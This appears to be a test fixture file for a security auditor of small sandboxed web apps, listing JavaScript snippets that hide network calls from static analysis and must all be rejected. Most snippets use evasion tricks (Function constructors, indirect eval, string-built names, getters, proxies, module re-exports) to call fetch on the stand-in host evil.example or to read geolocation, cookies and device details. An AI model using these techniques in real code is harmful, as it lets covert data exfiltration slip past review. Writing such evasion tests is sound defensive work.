// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are scripts
/** Attacks that hide behind what the audit lets pass in libraries. None may be approved. */
import { smallApp } from './small-app.ts';

type Files = ReturnType<typeof smallApp>;

export interface RelaxedCase {
  /** What hides it. */
  readonly by: string;
  readonly files: Files;
}

const END = "\nHost.storage.get('text');\n";

const script = (by: string, ...sources: readonly string[]): RelaxedCase[] =>
  sources.map((source) => ({ by, files: smallApp({ 'app.js': source + END }) }));

const loads = (paths: readonly string[], type = ''): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>N</title><script src="host-sdk.js"></script>${paths
    .map((path) => `<script ${type}src="${path}"></script>`)
    .join('')}</head><body><p id="text"></p></body></html>\n`;

const several = (by: string, sources: Readonly<Record<string, string>>): RelaxedCase => ({
  by,
  files: smallApp({ 'index.html': loads(Object.keys(sources)), ...sources }),
});

const modules = (by: string, sources: Readonly<Record<string, string>>): RelaxedCase => ({
  by,
  files: smallApp({ ...sources, 'index.html': loads(['app.js'], 'type="module" ') }),
});

const EVIL = "'https://evil.example/'";

export const RELAXED_CASES: readonly RelaxedCase[] = [
  ...script(
    'a wrapper around a timer that gets a text',
    'function later(f, n) { return setTimeout(f, n); }\nlater("go()", 1);',
    'function later(f, n) { return setTimeout(f, n); }\nconst code = "go" + "()";\nlater(code, 1);',
    'const later = (f, n) => setTimeout(f, n);\nlater(`go(${1})`, 1);',
    'function later(f, n) { return setTimeout(f, n); }\nfunction twice(g) { later(g, 1); }\ntwice("go()");',
    'const o = { later(f) { setInterval(f, 9); } };\no.later("go()");',
    'function later(f) { return setTimeout.call(window, f, 1); }\nlater("go()");',
    'class Clock { constructor(f) { setTimeout(f, 1); } }\nnew Clock("go()");',
    'function later(f) { return setTimeout(f, 1); }\nlater(document.title);',
    'function later(f) { return setTimeout(f, 1); }\nHost.storage.get("code").then((code) => later(code));',
    'function later(f) { return setTimeout(f, 1); }\n["go()"].forEach(later);',
  ),
  ...script(
    'a constructor of what may be a function',
    'const o = { f() {} };\nnew o.f.constructor("go()")();',
    'const o = { f: () => {} };\nconst C = o.f.constructor;\nnew C("go()")();',
    'function make(e) { return new e.constructor("go()", e); }\nmake(make)();',
    'function make(e) { return e.constructor(e.type); }\nconst f = () => {};\nf.type = "go()";\nmake(f)();',
    'const e = k() ? [] : () => {};\nnew e.constructor("go()")();\nfunction k() { return 0; }',
    '(function () {}).constructor("return this")().fetch("https://evil.example/");',
    'class A { static make(t) { return new this.constructor(t); } }\nA.make("go()")();',
    'Object.values({ f() {} })[0].constructor("go()")();',
  ),
  ...script(
    'constant text that gives the global object',
    `Function("return this")().fetch(${EVIL});`,
    `const root = Function("return this")();\nroot.fetch(${EVIL});`,
    `const root = globalThis || Function("return this")();\nnew root.XMLHttpRequest();`,
    `const make = Function("return this");\nmake().fetch(${EVIL});`,
    `const make = new Function("return this");\nconst { fetch: f } = make();\nf(${EVIL});`,
    `(0, eval)("this").fetch(${EVIL});`,
    `const w = (0, eval)("this");\nw["fet" + "ch"](${EVIL});`,
    `Function("a", "k", "return a[k]")(window, "fetch")(${EVIL});`,
    `Function("r", "regeneratorRuntime = r")(window);\nregeneratorRuntime.fetch(${EVIL});`,
    `Function("return fetch")()(${EVIL});`,
    `Function("return this.fetch")()(${EVIL});`,
    `Function("return (this)", "go()")();`,
    `Function("a = fetch(${EVIL.replaceAll("'", '`')})", "return 1")();`,
    `Function("return this; fetch(${EVIL.replaceAll("'", '`')})")();`,
  ),
  ...script(
    'a call that is reached after all',
    `function send() { fetch(${EVIL}); }\nsend();`,
    `const api = { send() { fetch(${EVIL}); } };\napi.send();`,
    `const api = { get() { return fetch(${EVIL}); } };\napi.get();`,
    `const api = { send() { fetch(${EVIL}); } };\napi["se" + "nd"]();`,
    `const api = { send() { fetch(${EVIL}); } };\nfor (const k in api) api[k]();`,
    `const api = { send() { fetch(${EVIL}); } };\nObject.values(api).forEach((f) => f());`,
    `const api = { get a() { return fetch(${EVIL}); } };\n({ ...api });`,
    `const api = {};\nObject.defineProperty(api, 'a', { enumerable: true, get() { return fetch(${EVIL}); } });\n({ ...api });`,
    `class A { set a(v) { fetch(${EVIL}); } }\nObject.assign(new A(), { a: 1 });`,
    `const a = { toString() { fetch(${EVIL}); return ''; } };\n\`\${a}\`;`,
    `const a = { valueOf() { fetch(${EVIL}); return 1; } };\na + 1;`,
    `const a = { then(done) { fetch(${EVIL}); done(); } };\nPromise.resolve(a);`,
    `const a = { *[Symbol.iterator]() { fetch(${EVIL}); } };\n[...a];`,
    `const a = { toJSON() { fetch(${EVIL}); } };\nJSON.stringify(a);`,
    `const a = new Proxy({}, { get() { fetch(${EVIL}); } });\na.b;`,
    `class A extends HTMLElement { connectedCallback() { fetch(${EVIL}); } }\ncustomElements.define('a-b', A);`,
    `addEventListener('load', { handleEvent() { fetch(${EVIL}); } });`,
    `document.body.onclick = function () { fetch(${EVIL}); };`,
    `Object.assign(document.body, { onclick() { fetch(${EVIL}); } });`,
    `onload = function () { fetch(${EVIL}); };`,
    `function onload() { fetch(${EVIL}); }`,
    `var onmessage = () => { fetch(${EVIL}); };`,
    `function make() { return function () { fetch(${EVIL}); }; }\nmake()();`,
    `function make() { return function () { fetch(${EVIL}); }; }\nconst f = make();\n[1].map(f);`,
    `function make() { return { send() { fetch(${EVIL}); } }; }\nmake().send();`,
    `const make = () => () => localStorage.setItem('a', 'b');\nconst set = make();\nset();`,
    `const { send = function () { fetch(${EVIL}); } } = {};\nsend();`,
    `function send() { fetch(${EVIL}); }\nwindow[['se', 'nd'].join('')]();`,
    `function send() { fetch(${EVIL}); }\nReflect.apply(send, null, []);`,
    `function A() {}\nA.prototype.send = function () { fetch(${EVIL}); };\nnew A().send();`,
    `Array.prototype.most = function () { fetch(${EVIL}); };\n[].most();`,
    `const send = () => fetch(${EVIL});\nexports = { send };\nvar exports;\nexports.send();`,
    `class A { static #send() { fetch(${EVIL}); } static go() { A.#send(); } }\nA.go();`,
    `class A { send = () => fetch(${EVIL}); }\nnew A().send();`,
    `class A { static { fetch(${EVIL}); } }`,
    `switch (1) { case 1: navigator.geolocation.getCurrentPosition(String); }`,
    `if (navigator.geolocation) navigator.geolocation.getCurrentPosition(String);`,
    `const d = navigator.userAgentData;\nif (d != null && d.brands) d.getHighEntropyValues(['model']);`,
    `const d = navigator.userAgentData;\nconst e = d;\ne.getHighEntropyValues(['model']);`,
    `navigator.userAgentData["getHigh" + "EntropyValues"](['model']);`,
    `function f(a) { a = function () { fetch(${EVIL}); }; arguments[0](); }\nf(1);`,
    `{ function send() { fetch(${EVIL}); } }\nsend();`,
    `if (true) { function send() { fetch(${EVIL}); } }\nwindow.send();`,
    `with ({ send() { fetch(${EVIL}); } }) send();`,
    `const o = {};\n({ x: o.y } = { x: function () { fetch(${EVIL}); } });\no.y();`,
    `const o = Object.defineProperty({}, 'send', { value: () => fetch(${EVIL}) });\no.send();`,
    `let send;\nconst set = (f) => (send = f);\nset(() => fetch(${EVIL}));\nsend();`,
    `class A { constructor() { fetch(${EVIL}); } }\nclass B extends A {}\nnew B();`,
    'function peer() { return new RTCPeerConnection(); }',
  ),
  ...script(
    'a name that is put together',
    `window["fet" + k()](${EVIL});\nfunction k() { return "ch"; }`,
    `const name = ["f", "etch"].join("");\nwindow[name](${EVIL});\nname.length;`,
    `const k = atob(document.title);\nwindow[k](${EVIL});`,
    `document["coo" + k()] = 1;\nfunction k() { return "kie"; }`,
  ),
  several('a handler in a page', {
    'app.js': `function send() { fetch(${EVIL}); }\nHost.storage.get('text');\n`,
    'index.html': `${loads(['app.js'])}<p onclick="send()">`,
  }),
  several('a script after it', {
    'lib.js': `var Lib = { send: function () { fetch(${EVIL}); } };`,
    'app.js': `Lib.send();${END}`,
  }),
  several('a script that calls by a text', {
    'lib.js': `var Lib = { send: function () { fetch(${EVIL}); } };`,
    'app.js': `Lib[document.title]();${END}`,
  }),
  modules('an import under another name', {
    'app.js': `import { go } from './b.js';\ngo();${END}`,
    'b.js': `export { send as go } from './c.js';\n`,
    'c.js': `export function send() { fetch(${EVIL}); }\n`,
  }),
  modules('a module as a whole', {
    'app.js': `import * as lib from './c.js';\nObject.values(lib).forEach((f) => f());${END}`,
    'c.js': `export function send() { fetch(${EVIL}); }\n`,
  }),
  modules('a default', {
    'app.js': `import send from './c.js';\nsend();${END}`,
    'c.js': `export default function () { fetch(${EVIL}); }\n`,
  }),
  modules('a class', {
    'app.js': `import { A } from './c.js';\nnew A();${END}`,
    'c.js': `export class A { constructor() { fetch(${EVIL}); } }\n`,
  }),
  modules('a star', {
    'app.js': `import { send } from './b.js';\nsend();${END}`,
    'b.js': `export * from './c.js';\n`,
    'c.js': `export const send = () => fetch(${EVIL});\n`,
  }),
];
